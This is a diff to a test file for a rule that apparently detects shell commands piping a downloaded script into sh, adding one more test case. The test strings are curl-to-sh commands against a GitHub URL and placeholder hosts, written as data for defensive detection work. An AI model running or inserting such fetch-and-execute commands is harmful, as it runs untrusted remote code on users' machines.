@@ -35,6 +35,7 @@ testRule(rule, {
     'curl https://raw.githubusercontent.com/acme/x/24454f830cdb571e2c4ad15481119c43b3cafd48/i.sh | sh',
   ),
   'two downloads': run('[|curl https://a.example/i | sh|] && [|curl https://b.example/i | sh|]'),
+  'what such a script writes': run('[|curl https://a.example/i | sh|] | sh'),
   'joined otherwise': run('curl https://a.example/i; sh || true'),
 });
 
